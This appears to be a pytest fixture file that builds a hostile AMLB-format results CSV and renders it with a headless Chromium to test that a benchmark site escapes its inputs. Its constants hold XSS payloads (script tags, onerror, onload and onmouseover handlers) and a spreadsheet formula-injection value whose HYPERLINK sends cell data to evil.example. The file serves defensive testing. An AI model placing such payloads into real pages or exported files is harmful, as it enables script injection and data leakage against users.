"""Inputs for the site tests: a hostile AMLB-format results file, a run of our own, a built site,
and a headless Chromium (Debian's, driven by playwright; skipped with the reason when absent)."""
from __future__ import annotations

import csv
import os
from pathlib import Path

import pytest

from amlb.site import build_site
from amlb.site.headless import CHROMIUM_ARGS, find_chromium
from amlb.site.sample import write_sample_run

#: a task name and messages that would run script if any page or plot interpreted them as HTML
HOSTILE_TASK = '<script>window.__xss=1</script><img src=x onerror="window.__xss=2">"\'&amp;</title><!--'
HOSTILE_INFO = 'NoResultError: </script><script>window.__xss=3</script><!-- <svg onload="window.__xss=4"> & ]]>'
HOSTILE_FRAMEWORK = '<b onmouseover="window.__xss=5">evil</b>'
HOSTILE_PARAMS = '{"x": "</script><script>window.__xss=6</script>"}'
HOSTILE_META = '<img src=x onerror="window.__xss=7">'
#: a message that a spreadsheet opening the CSV download would run as a formula
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"details")'
AMLB_HEADER = ["id", "task", "framework", "constraint", "fold", "type", "result", "metric", "mode", "version", "params",
               "app_version", "utc", "duration", "training_duration", "predict_duration", "models_count", "seed", "info",
               "acc", "balacc", "logloss", "auc"]


def shared_dir() -> Path | None:
    """/work/shared (or $AMLB_SHARED), when present."""
    env = os.environ.get("AMLB_SHARED")
    path = Path(env) if env else Path(__file__).resolve().parents[2] / ".." / "shared"
    return path if path.is_dir() else None


def write_hostile_amlb_csv(path: Path) -> Path:
    """A small AMLB-format results file: 6 binary tasks (one with a hostile name), 6 frameworks (one with a
    hostile name), 2 folds, and failed jobs whose messages are hostile."""
    tasks = ["australian", "blood-transfusion", "credit-g", "kc1", "phoneme", HOSTILE_TASK]
    skill = {"constantpredictor": 0.0, "RandomForest": 0.8, "TunedRandomForest": 0.85, "autoA": 0.9,
             "autoB": 0.88, HOSTILE_FRAMEWORK: 0.83}
    rows = []
    for t_i, task in enumerate(tasks):
        for f_i, (fw, s) in enumerate(skill.items()):
            for fold in range(2):
                auc = 0.5 + 0.45 * s * (1 - 0.05 * ((t_i * 7 + f_i * 3 + fold) % 5))
                failed = (fw == "autoB" and task in (HOSTILE_TASK, "kc1") and fold == 0) or \
                         (fw == HOSTILE_FRAMEWORK and task == "phoneme")
                rows.append({
                    "id": f"openml.org/t/{1000 + t_i}", "task": task, "framework": fw, "constraint": "1h8c_gp3",
                    "fold": fold, "type": "binary", "result": "" if failed else f"{auc:.4f}", "metric": "auc",
                    "mode": "aws.docker", "version": "1.0", "params": HOSTILE_PARAMS if fw == HOSTILE_FRAMEWORK else "",
                    "app_version": "2.0.2", "utc": "2021-11-17T23:48:01", "duration": 100, "training_duration": 90,
                    "predict_duration": 1.5, "models_count": 3, "seed": 1, "info": "" if not failed else HOSTILE_FORMULA if fw == HOSTILE_FRAMEWORK else HOSTILE_INFO,
                    "acc": "" if failed else f"{auc - 0.05:.4f}", "balacc": "", "logloss": "", "auc": "" if failed else f"{auc:.4f}",
                })
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=AMLB_HEADER)
        writer.writeheader()
        writer.writerows(rows)
    return path


def write_meta_csv(path: Path) -> Path:
    """OpenML-listing-style meta-features of the hostile file's tasks (one hostile column name)."""
    tasks = ["australian", "blood-transfusion", "credit-g", "kc1", "phoneme", HOSTILE_TASK]
    with open(path, "w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["did", "name", "NumberOfInstances", "NumberOfFeatures", HOSTILE_META])
        for i, t in enumerate(tasks):
            writer.writerow([i + 1, t, 500 * (i + 1), 10 + i, "a" if i % 2 else "b"])
    return path


@pytest.fixture(scope="session")
def inputs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    base = tmp_path_factory.mktemp("site-inputs")
    return {
        "amlb": write_hostile_amlb_csv(base / "amlb-hostile" / "classification.csv"),
        "meta": write_meta_csv(base / "amlb-hostile" / "dataset_metadata.csv"),
        "run": write_sample_run(base / "run1", benchmark="sample", tasks=6, folds=2).parent,
    }


@pytest.fixture(scope="session")
def site(tmp_path_factory: pytest.TempPathFactory, inputs: dict[str, Path]) -> Path:
    """The site built from the hostile AMLB file, its meta-features and a run of ours."""
    out = tmp_path_factory.mktemp("built") / "site"
    build_site([inputs["run"], inputs["amlb"], inputs["meta"]], out)
    return out


@pytest.fixture(scope="session")
def browser():
    path = find_chromium()
    if path is None:
        pytest.skip("no chromium binary found (apt-get install chromium, or set AMLB_CHROMIUM)")
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        pytest.skip("the playwright package is not installed")
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=path, args=list(CHROMIUM_ARGS))
        yield b
        b.close()
